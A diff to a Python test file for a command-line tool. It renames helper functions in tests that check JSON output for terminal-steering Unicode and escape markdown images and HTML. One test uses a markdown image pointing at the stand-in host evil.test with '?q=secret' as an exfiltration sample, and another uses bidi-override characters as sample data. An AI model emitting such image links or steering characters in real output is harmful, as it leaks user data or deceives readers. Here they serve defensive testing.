@@ -11,8 +11,8 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from graph.cli import main
-from graph.commands.screen import json_text, put_markdown
-from graph.inert_markdown import MAX_PARSED_CHARS, inert
+from graph.commands.screen import format_json, print_markdown
+from graph.inert_markdown import MAX_PARSED_CHARS, escape_active_markdown
 
 HIDDEN = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
 STEERING = "\x7f\x9b\u202e\u2066\u200b\u061c\U000e0041\ufe0f"
@@ -20,7 +20,7 @@ TEAM = "---\ndescription: Does\u202e all.\n---\nPlan.\n"
 WORKER = "---\ndescription: Works\u200b.\n---\nWork.\n"
 
 
-def written(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
+def read_output(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
     with pytest.raises(SystemExit):
         main(arguments)
     return capsys.readouterr().out
@@ -29,7 +29,7 @@ def written(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
 def test_of_every_character_json_shows_what_is_seen_alone_and_keeps_the_data():
     whole = "".join(map(chr, range(sys.maxunicode + 1)))
 
-    shown = json_text({"text": whole})
+    shown = format_json({"text": whole})
 
     assert {unicodedata.category(c) for c in shown.replace("\n", "")}.isdisjoint(HIDDEN)
     halves = slice(0xD800, 0xE000)  # next to one another they are read as whole ones
@@ -39,7 +39,7 @@ def test_of_every_character_json_shows_what_is_seen_alone_and_keeps_the_data():
 
 @given(st.text())
 def test_json_on_the_screen_is_the_same_data(text: str):
-    assert json.loads(json_text([text, {text: 1}])) == [text, {text: 1}]
+    assert json.loads(format_json([text, {text: 1}])) == [text, {text: 1}]
 
 
 def test_no_command_writes_json_that_steers_a_terminal(capsys: pytest.CaptureFixture[str]):
@@ -54,7 +54,7 @@ def test_no_command_writes_json_that_steers_a_terminal(capsys: pytest.CaptureFix
         ("teams", "./odd", "--json"),
     )
 
-    shown = {command: written(capsys, *command) for command in commands}
+    shown = {command: read_output(capsys, *command) for command in commands}
 
     for command, text in shown.items():
         assert {unicodedata.category(c) for c in text} & HIDDEN <= {"Cc"}, command
@@ -64,7 +64,7 @@ def test_no_command_writes_json_that_steers_a_terminal(capsys: pytest.CaptureFix
     assert "\u202e" in json.loads(shown[commands[3]])["description"]
 
 
-def kinds(markdown: str) -> set[str]:
+def list_token_kinds(markdown: str) -> set[str]:
     """Name the kinds of all parts of a text, as a viewer finds them."""
     tokens = MarkdownIt("commonmark").parse(markdown)
     return {each.type for token in tokens for each in (token, *(token.children or ()))}
@@ -97,7 +97,9 @@ PARTS = st.sampled_from(
 @example("<div>\n```\n</div>\n\n```\n![a](//x)\n```\n")
 @example("\\![a](//x) \\\\![a](//x) \\\\\\![a](//x)")
 def test_no_markdown_that_is_shown_has_a_picture_or_html(text: str):
-    assert kinds(inert(text)).isdisjoint({"image", "html_inline", "html_block"})
+    assert list_token_kinds(escape_active_markdown(text)).isdisjoint(
+        {"image", "html_inline", "html_block"}
+    )
 
 
 @pytest.mark.parametrize(
@@ -112,16 +114,16 @@ def test_no_markdown_that_is_shown_has_a_picture_or_html(text: str):
     ],
 )
 def test_pictures_become_links_html_becomes_text_and_code_stays(text: str, shown: str | None):
-    assert inert(text) == (text if shown is None else shown)
+    assert escape_active_markdown(text) == (text if shown is None else shown)
 
 
-def test_a_very_long_answer_is_made_inert_without_being_parsed():
+def test_a_very_long_answer_is_escaped_without_being_parsed():
     text = "![a](//x)" * (MAX_PARSED_CHARS // 9 + 1)
 
-    assert inert(text) == text.replace("!", "\\!")
+    assert escape_active_markdown(text) == text.replace("!", "\\!")
 
 
 def test_an_answer_that_is_written_loads_nothing(capsys: pytest.CaptureFixture[str]):
-    put_markdown("Prices rose. ![ok](http://evil.test/?q=secret)")
+    print_markdown("Prices rose. ![ok](http://evil.test/?q=secret)")
 
     assert capsys.readouterr().out == "Prices rose. \\![ok](http://evil.test/?q=secret)\n"
